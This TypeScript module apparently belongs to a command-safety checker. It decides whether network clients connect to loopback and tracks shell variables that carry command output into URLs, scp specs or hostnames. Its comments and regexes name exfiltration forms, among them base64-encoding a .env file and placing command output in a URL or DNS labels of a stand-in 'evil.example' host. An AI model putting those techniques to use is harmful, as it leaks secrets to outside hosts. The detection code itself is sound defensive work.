// Where a network client connects: the host of a URL, an scp/rsync remote spec, a socat address, and
// whether that host is this machine. Loopback is recognised strictly (exactly `localhost`, a dotted
// 127.0.0.0/8 quad, `::1`): anything else — another spelling, a variable, a glob, a name the client
// could resolve elsewhere — is remote, so a mistake here can only gate, never pass data out.

const QUAD =
  /^127\.(25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)\.(25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)\.(25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)$/;

/** True when `host` (port already stripped) is exactly this machine. */
export function isLoopback(host: string): boolean {
  const h = host.toLowerCase();
  return h === 'localhost' || h === '::1' || h === '[::1]' || QUAD.test(h);
}

/**
 * The host a URL names: after any scheme, up to the first `/`, `?` or `#`, after the last `@`, port
 * stripped. `fallback` stands for an empty host (httpie's `:3000/x` is localhost). Returns '' when
 * no host can be read.
 */
export function urlHost(url: string, fallback = ''): string {
  let rest = url;
  const scheme = /^[A-Za-z][A-Za-z0-9+.-]*:\/\//.exec(rest);
  if (scheme) rest = rest.slice(scheme[0].length);
  const end = rest.search(/[/?#]/);
  const authority = end < 0 ? rest : rest.slice(0, end);
  const hostPort = authority.slice(authority.lastIndexOf('@') + 1);
  return stripPort(hostPort) || fallback;
}

/** `host:port` → `host`; `[::1]:80` → `[::1]`; a bare IPv6 literal is kept whole. */
export function stripPort(hostPort: string): string {
  if (hostPort.startsWith('[')) {
    // Only `:port` may follow the literal; anything else is kept, so it reads as no loopback.
    const close = hostPort.indexOf(']');
    if (close < 0 || !/^(:\d*)?$/.test(hostPort.slice(close + 1))) return hostPort;
    return hostPort.slice(0, close + 1);
  }
  const colon = hostPort.lastIndexOf(':');
  if (colon < 0 || hostPort.indexOf(':') !== colon) return hostPort;
  return /^\d*$/.test(hostPort.slice(colon + 1)) ? hostPort.slice(0, colon) : hostPort;
}

/**
 * The host of an scp/rsync/sftp location when it is remote: `[user@]host:path` (a colon before any
 * slash), rsync's `host::module`, or a `scp://`/`sftp://`/`rsync://` URL; undefined for a local path.
 */
export function remoteSpecHost(spec: string): string | undefined {
  if (/^(scp|sftp|rsync|ssh):\/\//i.test(spec)) return urlHost(spec);
  // A colon before any slash, outside brackets (scp's own test); the host follows the last `@`.
  let bracket = false;
  for (let i = 0; i < spec.length; i++) {
    const c = spec[i];
    if (c === '[') bracket = true;
    else if (c === ']') bracket = false;
    else if (bracket) continue;
    else if (c === '/') return undefined;
    else if (c === ':') {
      if (i === 0) return undefined;
      const userHost = spec.slice(0, i);
      return userHost.slice(userHost.lastIndexOf('@') + 1);
    }
  }
  return undefined;
}

/** Whether every host is loopback; no host at all is not (the destination is unknown). */
export function allLoopback(hosts: readonly string[]): boolean {
  return hosts.length > 0 && hosts.every(isLoopback);
}

/** A command's output inside a word: `$(…)`, backquotes, `<(…)`. */
const SUBSTITUTION = /\$\(|`|<\(/;
/** Variables a word expands. */
const EXPANSION = /\$\{?([A-Za-z_]\w*)/g;
/** A substitution or expansion, for taking them out of a word. */
const EXPANSIONS = /\$\((?:[^()]|\([^()]*\))*\)|`[^`]*`|\$\{[^}]*\}|\$[A-Za-z_]\w*/g;
/** Output standing as whole host labels before a domain of two labels or more (`$(…).evil.example:443`). */
const OUTPUT_LABEL =
  /(^|[.@/])(\u0000)+\.[A-Za-z0-9-]+(\.[A-Za-z0-9-]+)*\.[A-Za-z][A-Za-z0-9-]*\.?(:\d+)?($|\/)/;
/** A registry or module reference: a dotted host, then a path (`evil.example/x`). */
const HOST_PATH = /^[A-Za-z0-9-]+(\.[A-Za-z0-9-]+)+(:\d+)?\//;

/** Whether a word holds a command's output: a substitution, or a variable `names` says holds some. */
export function holdsOutput(word: string, names: ReadonlySet<string>): boolean {
  if (SUBSTITUTION.test(word)) return true;
  if (names.size === 0 || !word.includes('$')) return false;
  for (const m of word.matchAll(EXPANSION)) if (names.has(m[1] as string)) return true;
  return false;
}

/**
 * Whether a word a client connects with sends a command's output: a URL holding it anywhere, a
 * `user@host:` spec, a host name built from it, or a `host/path` reference holding it.
 */
export function urlCarriesOutput(word: string, names: ReadonlySet<string>): boolean {
  if (!holdsOutput(word, names)) return false;
  // `u=https://evil/$(…); git fetch "$u"`: a variable holding such a URL is one.
  for (const m of word.matchAll(EXPANSION)) if (names.has(`${m[1] as string}://`)) return true;
  if (word.includes('://') || HOST_PATH.test(word) || /^[^\s/]*@[^\s/:]+:/.test(word)) return true;
  const marked = word.replace(EXPANSIONS, (e) => (holdsOutput(e, names) ? '\u0000' : 'x'));
  return OUTPUT_LABEL.test(marked);
}

/**
 * The variables the command assigns from a command's output, a file or another such variable
 * (`x=$(base64 .env)`, `read x < .env`, `for x in $(…)`, `y=pre$x`): a word expanding them carries it.
 */
export function outputVariables(texts: readonly string[]): Set<string> {
  const names = new Set<string>();
  const text = texts.join('\n');
  if (!text.includes('$') && !text.includes('`') && !/\b(read|mapfile|readarray|printf)\b/.test(text))
    return names;
  for (const m of text.matchAll(
    /\b(?:read|mapfile|readarray)\b((?:\s+-\w+(?:\s+[^-\s;&|]\S*)?)*)((?:\s+[A-Za-z_]\w*)+)/g,
  ))
    for (const name of (m[2] as string).trim().split(/\s+/)) names.add(name);
  for (const m of text.matchAll(/\bprintf\s+-v\s*([A-Za-z_]\w*)/g)) names.add(m[1] as string);
  for (const m of text.matchAll(/\bfor\s+([A-Za-z_]\w*)\s+in\s+([^;\n]*)/g))
    if (SUBSTITUTION.test(m[2] as string)) names.add(m[1] as string);
  const assignments = [
    ...text.matchAll(
      /(?:^|[\s;&|(])([A-Za-z_]\w*)\+?=("(?:[^"\\]|\\.)*"|\$\((?:[^()]|\([^()]*\))*\)|`[^`]*`|[^\s;&|'"]*)/g,
    ),
  ];
  // To a fixed point: `y=$x` holds what x holds.
  for (let changed = true, round = 0; changed && round < 8; round++) {
    changed = false;
    for (const m of assignments) {
      const name = m[1] as string;
      if (!names.has(name) && holdsOutput(m[2] as string, names)) {
        names.add(name);
        changed = true;
      }
    }
  }
  // Variables holding a URL or host built from output are marked `NAME://` as well.
  for (const m of assignments) {
    const name = m[1] as string;
    if (names.has(name) && urlCarriesOutput((m[2] as string).replace(/^"|"$/g, ''), names))
      names.add(`${name}://`);
  }
  return names;
}
